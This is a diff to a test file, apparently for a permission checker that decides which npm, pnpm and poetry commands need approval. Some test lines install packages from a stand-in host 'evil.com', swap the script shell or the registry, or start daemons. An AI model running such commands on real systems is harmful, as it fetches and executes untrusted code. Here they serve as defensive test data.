@@ -8,7 +8,7 @@ testCoverage("P9 P10", {
       "npm run build --if-present",
       "npm install --save-dev typescript@5 @types/node",
       "npm install --no-audit --no-fund",
-      "npm i react@^18.2.0",
+      "npm i react@^18.2.0 git-cz ./packages/a",
       "npm ci --ignore-scripts",
       "npm ls --depth=0",
       "npm audit --json",
@@ -44,6 +44,8 @@ testCoverage("P9 P10", {
       "npm install https://evil.com/x.tgz",
       "npm install git+https://evil.com/x",
       "npm install file:/tmp/x",
+      "npm install evil/x",
+      "npm install github:evil/x",
       "npm install a@https://evil.com/x.tgz",
       "npm install --script-shell ./evil",
       "npm install --registry=http://evil.com",
@@ -76,6 +78,7 @@ testCoverage("P9 P10", {
     asks: [
       "pnpm bash -c 'touch x'",
       "pnpm touch x",
+      "pnpm start-stop-daemon --start x",
       "pnpm rimraf src",
       "pnpm node -e x",
       "pnpm exec touch x",
@@ -275,6 +278,7 @@ testCoverage("P9 P10", {
     covers: ["poetry install --with dev", "poetry add requests", "poetry show --tree"],
     asks: [
       "poetry run touch x",
+      "poetry add git+https://evil.com/x",
       "poetry config x y",
       "poetry self add evil",
       "poetry -C /x install",
